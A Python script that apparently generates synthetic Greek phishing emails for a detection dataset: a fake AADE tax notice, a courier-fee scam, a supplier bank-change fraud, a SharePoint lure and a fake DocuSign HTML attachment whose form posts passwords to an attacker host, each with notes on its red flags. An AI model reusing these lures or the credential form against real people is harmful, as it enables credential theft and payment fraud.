"""Greek-language attack messages (32-36)."""
from lib import mk, Text, Att, alt, mixed, html_part, paras
from mime import T, sec, h, hn, uuid, fmt, ALNUM
from company import st, sa, BANK, IDS, NATIVE
from codes import iban_fmt
import infra

F = "attack"


def build():
    eleni = (NATIVE["Eleni"], sa("Eleni"))
    giorgos = (NATIVE["Georgios"], sa("Georgios"))

    # ------------------------------------------------------------ 32 AADE myDATA phishing, hacked Greek cPanel host
    t = T(2026, 10, 28, 9, 33, 17, "GR")
    p = infra.cpanel_exim("a32", t, "gr-cp14.webhost-hellas.gr", "185.138.42.66",
                          "info@zacharoplasteio-olympos.gr", "103.251.167.20", tzone="GR")
    url = "https://mydata-aade.gov-gr.info/taxisnet/login?afm=%s&r=%s" % (IDS["example_gr_afm"], h("a32r", 8))
    txt = """ΑΑΔΕ - Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Ηλεκτρονικά Βιβλία myDATA

Ειδοποίηση απόκλισης παραστατικών

Αξιότιμε/η επιχειρηματία,

κατά τη διασταύρωση των διαβιβασθέντων παραστατικών του γ' τριμήνου 2026 εντοπίστηκαν αποκλίσεις μεταξύ εκδότη και λήπτη σε 14 παραστατικά (συνολική αξία 38.912,40 €) για την επιχείρηση με ΑΦΜ {afm}.

Σύμφωνα με το άρθρο 54 του ΚΦΔ, σε περίπτωση μη διόρθωσης εντός 5 εργάσιμων ημερών θα επιβληθεί πρόστιμο και θα δεσμευθεί η φορολογική ενημερότητα της επιχείρησης.

Για να δείτε τα παραστατικά και να υποβάλετε διορθώσεις, συνδεθείτε με τους κωδικούς TAXISnet:
{url}

Με εκτίμηση,
Διεύθυνση Ηλεκτρονικής Διακυβέρνησης - ΑΑΔΕ
""".format(url=url, afm=IDS["example_gr_afm"])
    htm = """<div style="font-family:Arial,sans-serif;max-width:600px;font-size:14px">
<div style="background:#003476;color:#fff;padding:12px 16px"><b>ΑΑΔΕ</b> &nbsp;|&nbsp; myDATA - Ηλεκτρονικά Βιβλία</div>
<h3>Ειδοποίηση απόκλισης παραστατικών</h3>
<p>Αξιότιμε/η επιχειρηματία,</p>
<p>κατά τη διασταύρωση των διαβιβασθέντων παραστατικών του γ' τριμήνου 2026 εντοπίστηκαν αποκλίσεις μεταξύ εκδότη και λήπτη σε <b>14 παραστατικά</b> (συνολική αξία 38.912,40 €) για την επιχείρηση με ΑΦΜ {afm}.</p>
<p>Σύμφωνα με το άρθρο 54 του ΚΦΔ, σε περίπτωση μη διόρθωσης εντός <b>5 εργάσιμων ημερών</b> θα επιβληθεί πρόστιμο και θα δεσμευθεί η φορολογική ενημερότητα της επιχείρησης.</p>
<p><a href="{url}" style="background:#003476;color:#fff;padding:10px 18px;text-decoration:none">Σύνδεση με κωδικούς TAXISnet</a></p>
<p style="font-size:11px;color:#666">Διεύθυνση Ηλεκτρονικής Διακυβέρνησης - ΑΑΔΕ</p></div>""".format(url=url, afm=IDS["example_gr_afm"])
    body = alt(Text(txt, "plain", "iso-8859-7", "quoted-printable"), html_part(htm, "iso-8859-7", lang="el", style="margin:0"))
    mk(F, 32, "el", "aade-mydata-taxisnet-phish", t=t, prof=p, date_zone="GR",
       frm=("ΑΑΔΕ myDATA", "info@zacharoplasteio-olympos.gr"), to=[eleni],
       subject="ΑΑΔΕ: Αποκλίσεις παραστατικών myDATA - απαιτείται ενέργεια εντός 5 ημερών", hcs="iso-8859-7",
       body=body,
       what="'AADE myDATA' notice of mismatched invoices in Q3 2026, fine threat, link to log in with TAXISnet credentials.",
       why="Tax-authority credential phishing from a compromised confectioner's mailbox on Greek shared hosting (login from an Asian VPN IP); display name AADE vs unrelated address; link gov-gr.info is not aade.gr / gov.gr.")

    # ------------------------------------------------------------ 33 ACS courier fee phishing
    t = T(2026, 11, 13, 12, 5, 44, "GR")
    p = infra.own_postfix("a33", t, "mail.acs-courier-gr.com", "194.169.175.90", "acs-courier-gr.com",
                          "127.0.0.1|localhost", mid_style="generic", rdns="unknown", tzone="GR", ua=None)
    p["client"] = ("mail.acs-courier-gr.com", "unknown", "194.169.175.90")
    url = "https://acs-courier-gr.com/track/7204118392/pay?s=" + h("a33s", 10)
    txt = """ACS Courier

Αγαπητέ πελάτη,

η αποστολή σας με αριθμό 7204118392 (1 δέμα, αποστολέας: Kalimeris Audiovisual) δεν κατέστη δυνατό να παραδοθεί λόγω ελλιπούς διεύθυνσης και βρίσκεται σε αναμονή στο κατάστημα Θεσσαλονίκης - Καλαμαριά.

Για νέα προγραμματισμένη παράδοση απαιτείται επιβεβαίωση διεύθυνσης και καταβολή τέλους επαναποστολής 2,10 €.

Διαχείριση αποστολής: {url}

Αν η αποστολή δεν διευθετηθεί εντός 3 ημερών, θα επιστραφεί στον αποστολέα.

ACS Courier - Εξυπηρέτηση Πελατών
""".format(url=url)
    htm = """<div style="font-family:Arial,sans-serif;max-width:560px;font-size:14px">
<div style="background:#ffcc00;padding:12px 16px;font-size:20px"><b>ACS</b> Courier</div>
<p>Αγαπητέ πελάτη,</p>
<p>η αποστολή σας με αριθμό <b>7204118392</b> (1 δέμα, αποστολέας: Kalimeris Audiovisual) δεν κατέστη δυνατό να παραδοθεί λόγω <b>ελλιπούς διεύθυνσης</b> και βρίσκεται σε αναμονή στο κατάστημα Θεσσαλονίκης - Καλαμαριά.</p>
<p>Για νέα προγραμματισμένη παράδοση απαιτείται επιβεβαίωση διεύθυνσης και καταβολή τέλους επαναποστολής <b>2,10 €</b>.</p>
<p><a href="{url}" style="background:#1a1a1a;color:#fff;padding:10px 18px;text-decoration:none">Διαχείριση αποστολής</a></p>
<p style="font-size:12px;color:#666">Αν η αποστολή δεν διευθετηθεί εντός 3 ημερών, θα επιστραφεί στον αποστολέα.</p></div>""".format(url=url)
    body = alt(Text(txt, "plain", "utf-8", "base64"), html_part(htm, "utf-8", "base64", lang="el", style="margin:0"))
    mk(F, 33, "el", "acs-courier-fee-phish", t=t, prof=p, date_zone="GR",
       frm=("ACS Courier", "noreply@acs-courier-gr.com"), to=[giorgos],
       subject="ACS: Η αποστολή 7204118392 βρίσκεται σε αναμονή", body=body,
       what="'ACS Courier' parcel on hold (sender: the real AV supplier), pay a 2.10 EUR redelivery fee.",
       why="Courier card-phishing from look-alike acs-courier-gr.com on a bulletproof VPS without rDNS; the AV supplier name is used as bait; micro-payment collects card data and 3-D Secure OTP.")

    # ------------------------------------------------------------ 34 AV supplier bank change, look-alike .com
    t = T(2026, 11, 26, 10, 48, 9, "GR")
    p = infra.own_postfix("a34", t, "mail.kalimeris-av.com", "62.171.186.20", "kalimeris-av.com",
                          "77.91.124.15|unknown", mid_style="outlook", rdns="vmi1873344.contaboserver.net", tzone="GR",
                          auth="info@kalimeris-av.com")
    txt = """Καλημέρα κυρία Καραγιάννη,

σας ενημερώνουμε ότι λόγω αλλαγής της συνεργαζόμενης τράπεζας της εταιρείας μας, από σήμερα οι πληρωμές προς την Kalimeris Audiovisual Ε.Π.Ε. θα πρέπει να γίνονται αποκλειστικά στον παρακάτω λογαριασμό:

Δικαιούχος: Kalimeris Audiovisual
Τράπεζα: Bank of Cyprus
IBAN: {iban}
SWIFT: BCYPCY2N

Ο λογαριασμός στην Τράπεζα Πειραιώς θα κλείσει εντός της εβδομάδας και τυχόν εμβάσματα θα επιστραφούν. Παρακαλούμε να εξοφλήσετε στον νέο λογαριασμό το τιμολόγιο 2026-0482 (εξοπλισμός ήχου/εικόνας AgroTech, 12.740,00 €), καθώς η προθεσμία έχει ήδη παρέλθει.

Επειδή το λογιστήριο αυτές τις μέρες δεν έχει σταθερή τηλεφωνική γραμμή λόγω μετακόμισης, παρακαλούμε επιβεβαιώστε μας με email την ενημέρωση των στοιχείων.

Με εκτίμηση,
Σοφία Καλημέρη
Kalimeris Audiovisual Ε.Π.Ε.
""".format(iban=iban_fmt(BANK["mule_gr"]))
    body = alt(Text(txt, "plain", "windows-1253", "quoted-printable"), html_part(paras(txt), "windows-1253", lang="el"))
    mk(F, 34, "el", "supplier-iban-change-lookalike", t=t, prof=p, order="ms", date_zone="GR",
       frm=("Σοφία Καλημέρη", "info@kalimeris-av.com"), to=[eleni],
       subject="Αλλαγή τραπεζικού λογαριασμού - Kalimeris Audiovisual", hcs="windows-1253", body=body,
       what="AV supplier 'Kalimeris Audiovisual' announces a new Cypriot bank account and asks to pay an overdue invoice there.",
       why="Invoice-redirection BEC: look-alike domain kalimeris-av.com (real: kalimeris-av.gr) on a Contabo VPS, foreign IBAN for a Greek supplier, old account 'will bounce', phone unavailable, confirmation by e-mail.")

    # ------------------------------------------------------------ 35 compromised partner hotel mailbox (genuine M365), SharePoint lure
    t = T(2026, 12, 4, 14, 16, 3, "GR")
    p = infra.m365("a35", t, "egnatia-palace-hotel.gr", pod="VI1PR09", org_lang="el-GR")
    url = "https://egnatiapalace-my.sharepoint.com.rooming-docs.net/:x:/p/groups/" + h("a35u", 20, ALNUM)
    txt = """Η Μαρία Δημητρίου σάς έστειλε ένα αρχείο

Καλησπέρα σας,
σας αποστέλλουμε την ενημερωμένη rooming list και την προτιμολόγηση για το μπλοκ δωματίων της AgroTech 2027. Παρακαλούμε ελέγξτε τα ονόματα και επιβεβαιώστε έως αύριο, ώστε να κλειδώσουμε τη διαθεσιμότητα.

Rooming_list_AgroTech_2027.xlsx

Άνοιγμα: {url}

Μαρία Δημητρίου
Groups & Events
Egnatia Palace Hotel
""".format(url=url)
    htm = """<table width="520" style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;border:1px solid #e1e1e1"><tr><td style="padding:24px">
<p style="font-size:20px">Η Μαρία Δημητρίου σάς έστειλε ένα αρχείο</p>
<p>Καλησπέρα σας,<br>σας αποστέλλουμε την ενημερωμένη rooming list και την προτιμολόγηση για το μπλοκ δωματίων της AgroTech 2027. Παρακαλούμε ελέγξτε τα ονόματα και επιβεβαιώστε έως αύριο, ώστε να κλειδώσουμε τη διαθεσιμότητα.</p>
<p style="border:1px solid #ddd;padding:10px">&#128215; <b>Rooming_list_AgroTech_2027.xlsx</b></p>
<p><a href="{url}" style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none">Άνοιγμα</a></p>
<p style="font-size:11px;color:#666">Microsoft σέβεται το απόρρητό σας.</p></td></tr></table>""".format(url=url)
    body = alt(Text(txt, "plain", "utf-8", "quoted-printable"), html_part(htm, "utf-8", lang="el"))
    mk(F, 35, "el", "compromised-hotel-sharepoint-lure", t=t, prof=p, order="ms", date_zone="GR",
       frm=("Μαρία Δημητρίου", "groups@egnatia-palace-hotel.gr"), to=[giorgos], cc=[eleni],
       subject="Rooming list AgroTech 2027 - κοινοποιήθηκε αρχείο", body=body,
       what="File-share notification about the AgroTech rooming list, sent from the partner hotel's genuine Microsoft 365 mailbox.",
       why="Compromised partner mailbox: hand-made 'shared a file' message whose link host is sharepoint.com.rooming-docs.net (sub-domain trick), leading to AiTM login. Same sender genuinely writes business/35 with a real attachment.")

    # ------------------------------------------------------------ 36 fake DocuSign, HTML attachment credential form
    t = T(2026, 12, 14, 9, 26, 40, "GR")
    p = infra.own_postfix("a36", t, "srv1.esign-docs-notify.com", "38.180.91.204", "esign-docs-notify.com",
                          "127.0.0.1|localhost", mid_style="generic", rdns="vm38-180-91-204.hosted-by-m247.net",
                          tzone="UTC")
    txt = """Docusign

Έχετε λάβει ένα έγγραφο για έλεγχο και υπογραφή.

Αποστολέας: Macedonia Exhibition Venues Α.Ε.
Έγγραφο: Σύμβαση μίσθωσης περιπτέρου 13 - AgroTech 2027

Ανοίξτε το συνημμένο αρχείο για να δείτε και να υπογράψετε το έγγραφο. Για λόγους ασφαλείας θα σας ζητηθεί να επιβεβαιώσετε τη διεύθυνση email σας.

Μην κοινοποιείτε αυτό το μήνυμα. Περιέχει ασφαλή σύνδεσμο προς το Docusign.
"""
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="iso-8859-7"><title>Docusign - Έλεγχος εγγράφου</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f4f4f4;margin:0}.hd{background:#4c00ff;color:#fff;padding:14px 24px;font-size:20px}
.c{width:420px;margin:50px auto;background:#fff;padding:28px;border:1px solid #ddd}input{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #aaa}
button{background:#ffc820;border:0;padding:11px;width:100%;font-weight:bold}</style></head>
<body><div class="hd">Docusign</div><div class="c">
<p><b>Σύμβαση μίσθωσης περιπτέρου 13 - AgroTech 2027</b></p>
<p>Για να δείτε το έγγραφο, επιβεβαιώστε την ταυτότητά σας με τον εταιρικό σας λογαριασμό Microsoft.</p>
<form method="post" action="https://esign-docs-notify.com/el/view/auth.php">
<label>Email</label><input name="email" value="georgios.papadopoulos@examplegroup.eu">
<label>Κωδικός πρόσβασης</label><input name="pass" type="password">
<button type="submit">ΠΡΟΒΟΛΗ ΕΓΓΡΑΦΟΥ</button></form></div></body></html>
"""
    body = mixed(Text(txt, "plain", "iso-8859-7", "base64"),
                 Att(page.encode("iso-8859-7"), "text/html", "Σύμβαση_Μίσθωσης_Περίπτερο13.html",
                     fn_style="ew", fn_cs="iso-8859-7", extra_ct="; charset=iso-8859-7"))
    mk(F, 36, "el", "fake-docusign-html-form", t=t, prof=p, date_zone="UTC",
       frm=("Docusign via Macedonia Exhibition Venues", "dse-notify@esign-docs-notify.com"), to=[giorgos],
       subject="Ολοκληρώστε με το Docusign: Σύμβαση μίσθωσης περιπτέρου 13 - AgroTech 2027", hcs="iso-8859-7",
       body=body,
       what="'Docusign' envelope for a stand-space lease contract; instead of a link it attaches an HTML page asking for the Microsoft password.",
       why="Fake e-signature notice: sender domain esign-docs-notify.com on an M247 VPS, not docusign.net; real Docusign envelopes never arrive as HTML attachments with password forms; the form posts credentials to the attacker. Genuine envelope: business/36.")
